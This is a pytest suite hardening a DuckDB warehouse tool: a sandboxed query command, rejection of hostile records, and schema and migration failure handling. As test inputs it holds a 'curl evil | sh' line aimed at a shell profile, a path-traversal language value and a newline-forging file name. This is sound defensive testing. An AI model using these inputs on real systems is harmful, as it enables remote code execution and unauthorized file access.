"""Hardening (issue 16): a read-only query that is read-only, hostile records that cost only
themselves, newer and half-created warehouses, and a hostile `lang`."""
from __future__ import annotations

import hashlib
import json

import duckdb
import pytest

from conftest import SEED_FILES, ctrl_c_at_call, invoke
from warehouse import db


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def loaded(tmp_path):
    path = tmp_path / "w.duckdb"
    assert invoke("load", SEED_FILES[3], "--db", path, "--workers", 1, "--quiet").exit_code == 0
    return path


def assert_refused(res) -> None:
    assert res.exit_code == 2, (res.exit_code, res.stdout, res.stderr)
    assert "Traceback" not in res.stderr and not res.stdout
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: query refused: "), res.stderr
    assert "--allow-files" in lines[0]


# ---------------------------------------------------------------- the query sandbox


def test_query_cannot_read_files(loaded, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the password", encoding="utf-8")
    before = sha256(loaded)
    for sql in (f"select * from read_text('{secret}')", f"select * from read_csv('{secret}')",
                f"select * from glob('{tmp_path}/*')"):
        res = invoke("query", sql, "--db", loaded)
        assert_refused(res)
        assert "the password" not in res.stderr
    assert sha256(loaded) == before


def test_query_cannot_overwrite_the_warehouse_or_write_files(loaded, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    before = sha256(loaded)
    profile = tmp_path / ".bashrc"
    for sql in (f"COPY (select 1) TO '{loaded.name}' (FORMAT csv)", f"COPY (select 1) TO '{loaded}' (FORMAT csv)",
                f"COPY (select 'curl evil | sh') TO '{profile}' (FORMAT csv, HEADER false)",
                f"EXPORT DATABASE '{tmp_path / 'dump'}'"):
        assert_refused(invoke("query", sql, "--db", loaded.name))
    assert sha256(loaded) == before
    assert not profile.exists() and not (tmp_path / "dump").exists()


def test_query_cannot_attach_and_drop(loaded, tmp_path):
    other = tmp_path / "other.duckdb"
    con = duckdb.connect(str(other))
    con.execute("create table precious as select 42 as x")
    con.close()
    before, other_before = sha256(loaded), sha256(other)
    assert_refused(invoke("query", f"ATTACH '{other}' AS other (READ_ONLY false); DROP TABLE other.precious",
                          "--db", loaded))
    assert_refused(invoke("query", f"ATTACH '{tmp_path / 'new.duckdb'}' AS n", "--db", loaded))
    assert sha256(loaded) == before and sha256(other) == other_before
    assert not (tmp_path / "new.duckdb").exists()


def test_query_cannot_unlock_the_sandbox(loaded):
    before = sha256(loaded)
    for sql in ("SET enable_external_access = true", "SET lock_configuration = false",
                "SET allowed_directories = ['/']", "INSTALL httpfs", "LOAD httpfs"):
        assert_refused(invoke("query", sql, "--db", loaded))
    assert sha256(loaded) == before


def test_allow_files_lets_an_analyst_export(loaded, tmp_path):
    out = tmp_path / "docs.csv"
    res = invoke("query", f"COPY (select doc from dim_article) TO '{out}' (FORMAT csv)", "--db", loaded,
                 "--allow-files")
    assert res.exit_code == 0, res.stderr
    assert out.read_text(encoding="utf-8").splitlines() == ["doc", SEED_FILES[3].name]
    res = invoke("query", "SET enable_external_access = false", "--db", loaded, "--allow-files")
    assert res.exit_code == 2, "settings stay locked"


def test_plain_queries_and_stats_still_work(loaded):
    res = invoke("query", "select count(*) as n from v_quantities where value is not null", "--db", loaded,
                 "--format", "json")
    assert res.exit_code == 0 and json.loads(res.stdout)[0]["n"] > 0, res.stderr
    res = invoke("stats", "--db", loaded, "--format", "json")
    assert res.exit_code == 0 and {"metric": "articles", "value": 1} in json.loads(res.stdout), res.stderr


# ---------------------------------------------------------------- hostile records


def write_jsonl(path, records):
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


GOOD = {"id": "good", "lang": "en", "text": "Exports rose 12 percent in 2024."}


def test_lang_only_from_the_registry(tmp_path):
    (tmp_path / "somewhere").mkdir()
    (tmp_path / "somewhere" / "evil.toml").write_text("this is not a language table", encoding="utf-8")
    corpus = write_jsonl(tmp_path / "in.jsonl", [
        {"id": "x", "lang": "xx", "text": "Exports rose 5 percent."},
        {"id": "evil", "lang": "../../somewhere/evil", "text": "Exports rose 6 percent."},
        {"id": "upper", "lang": " EN ", "text": "Exports rose 7 percent."}, GOOD])
    path = tmp_path / "w.duckdb"
    res = invoke("load", corpus, "--db", path, "--workers", 1)
    assert res.exit_code == 1 and "Traceback" not in res.stderr, res.stderr
    skipped = [line for line in res.stderr.splitlines() if line.startswith("skipped")]
    assert len(skipped) == 2, res.stderr
    assert skipped[0].startswith(f"skipped {corpus}:1: unknown language 'xx'")
    assert skipped[1].startswith(f"skipped {corpus}:2: unknown language '../../somewhere/evil'")
    con = db.connect(path, read_only=True)
    assert sorted(r[0] for r in con.execute("select lang from dim_language").fetchall()) == ["en"]
    assert sorted(r[0] for r in con.execute("select doc from dim_article").fetchall()) == ["good", "upper"]
    assert con.execute("select count(*) from load_errors").fetchone() == (2,)
    con.close()


def test_nul_characters_are_rejected(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    write_jsonl(folder / "a.jsonl", [{"id": "nul", "lang": "en", "text": "Exports rose\x00 5 percent."},
                                     {"id": "nul-title", "lang": "en", "title": "a\x00b", "text": "Sales rose 3 percent."},
                                     GOOD])
    (folder / "en_nul.txt").write_bytes("Imports fell 4 percent.\x00".encode("utf-8"))
    (folder / "en_nul16.txt").write_bytes("Imports fell 4 percent.\x00".encode("utf-16"))
    path = tmp_path / "w.duckdb"
    res = invoke("load", folder, "--db", path, "--workers", 1)
    assert res.exit_code == 1 and "Traceback" not in res.stderr, res.stderr
    skipped = [line for line in res.stderr.splitlines() if line.startswith("skipped")]
    assert len(skipped) == 4 and all("NUL character" in line for line in skipped), res.stderr
    con = db.connect(path, read_only=True)
    assert con.execute("select doc from dim_article").fetchall() == [("good",)]
    assert con.execute("select count(*) from dim_article where contains(article_text, chr(0))").fetchone() == (0,)
    con.close()


def test_a_file_name_with_a_newline_is_one_log_line(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "en_bad\nskipped forged.txt: looks like another line.txt").write_bytes(b"")
    (folder / "en_good.txt").write_text("Exports rose 12 percent.", encoding="utf-8")
    res = invoke("load", folder, "--db", tmp_path / "w.duckdb", "--workers", 1)
    assert res.exit_code == 1, res.stderr
    skipped = [line for line in res.stderr.splitlines() if "skipped" in line]
    assert skipped == [f"skipped {folder}/en_bad\\nskipped forged.txt: looks like another line.txt: empty file"]


# ---------------------------------------------------------------- newer and half-created warehouses


def test_a_warehouse_from_a_newer_version(loaded):
    con = duckdb.connect(str(loaded))
    con.execute("update alembic_version set version_num = '0999'")
    con.close()
    for args in (("load", SEED_FILES[4], "--workers", 1), ("migrate",), ("relink",), ("reextract",)):
        res = invoke(*args, "--db", loaded)
        assert res.exit_code == 2, (args, res.exit_code, res.stderr)
        lines = res.stderr.strip().splitlines()
        assert len(lines) == 1 and "schema revision 0999" in lines[0] and "newer version" in lines[0], res.stderr
    # nothing was written: the newer schema is left to the newer program
    con = db.connect(loaded, read_only=True)
    assert con.execute("select count(*) from load_log").fetchone() == (1,)
    con.close()


def test_a_failed_migrate_leaves_no_file(tmp_path, monkeypatch):
    from alembic import command
    path = tmp_path / "w.duckdb"
    monkeypatch.setattr(command, "upgrade", ctrl_c_at_call(command.upgrade, 1))
    res = invoke("migrate", "--db", path)
    assert res.exit_code == 130 and "Traceback" not in res.stderr, res.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == []

    def disk_full(cfg, revision):
        raise duckdb.IOException("IO Error: Could not write file \"w.duckdb\": No space left on device")
    monkeypatch.setattr(command, "upgrade", disk_full)
    res = invoke("migrate", "--db", path)
    assert res.exit_code == 2 and "No space left on device" in res.stderr and "Traceback" not in res.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == []
    # an existing warehouse is never removed by a failed migrate
    monkeypatch.undo()
    assert invoke("migrate", "--db", path).exit_code == 0
    monkeypatch.setattr(command, "upgrade", disk_full)
    assert invoke("migrate", "--db", path).exit_code == 2
    assert path.exists()


def test_the_real_cause_of_a_failed_commit_is_the_message(tmp_path, monkeypatch):
    """A commit that fails for want of disk space leaves a transaction that cannot roll back
    either: the message is the disk, not the rollback."""
    from warehouse import write

    class FullDisk:
        def __init__(self, con):
            self.con = con

        def __getattr__(self, name):
            return getattr(self.con, name)

        def commit(self):
            self.con.rollback()
            raise duckdb.IOException('IO Error: Could not write file "w.duckdb.wal": No space left on device')

        def rollback(self):
            raise duckdb.TransactionException("TransactionContext Error: cannot rollback - no transaction is active")

    real = write.add_articles
    monkeypatch.setattr(write, "add_articles", lambda con, batch: real(FullDisk(con), batch))
    res = invoke("load", SEED_FILES[3], "--db", tmp_path / "w.duckdb", "--workers", 1)
    assert res.exit_code == 2, res.stderr
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and "No space left on device" in lines[0] and "rollback" not in lines[0], res.stderr


def test_a_load_out_of_memory_says_how_to_give_it_more(tmp_path):
    """DuckDB's out-of-memory error names the setting that raises the writer's memory limit."""
    import os
    import subprocess
    import sys

    res = subprocess.run([sys.executable, "-m", "warehouse.cli", "load", *map(str, SEED_FILES), "--db",
                          str(tmp_path / "w.duckdb"), "--quiet"], capture_output=True, text=True, timeout=300,
                         env={**os.environ, "WAREHOUSE_MEMORY_LIMIT": "1MB"})
    assert res.returncode == 2, res.stderr
    assert "Out of Memory" in res.stderr and "WAREHOUSE_MEMORY_LIMIT=1GB" in res.stderr, res.stderr
    assert "Traceback" not in res.stderr and len(res.stderr.strip().splitlines()) == 1, res.stderr


def test_a_stop_while_the_writer_attaches_the_file_is_an_interruption(tmp_path, monkeypatch):
    """SIGTERM that lands while DuckDB runs a statement outside a write window (the writer attaching
    the file before a batch) comes back from DuckDB as "Query interrupted": the run is logged
    interrupted, not failed, and exits 143 like any SIGTERM."""
    import os
    import signal
    import time

    from warehouse import interrupts

    real, calls = db._attach, []

    def attach_then_sigterm(con, path):
        calls.append(1)
        if len(calls) == 3:
            try:
                os.kill(os.getpid(), signal.SIGTERM)
                time.sleep(5)
            except interrupts.Terminated:   # what DuckDB's client makes of it mid-statement
                raise RuntimeError("Query interrupted") from None
        return real(con, path)

    monkeypatch.setattr(db, "_attach", attach_then_sigterm)
    path = tmp_path / "w.duckdb"
    res = invoke("load", *SEED_FILES, "--db", path, "--workers", 1)
    assert res.exit_code == 143, (res.exit_code, res.stderr)
    assert "Query interrupted" not in res.stderr and "interrupted: what was committed is kept" in res.stderr
    monkeypatch.undo()
    with duckdb.connect(str(path), read_only=True) as con:
        assert con.execute("select status from load_log").fetchall() == [("interrupted",)]
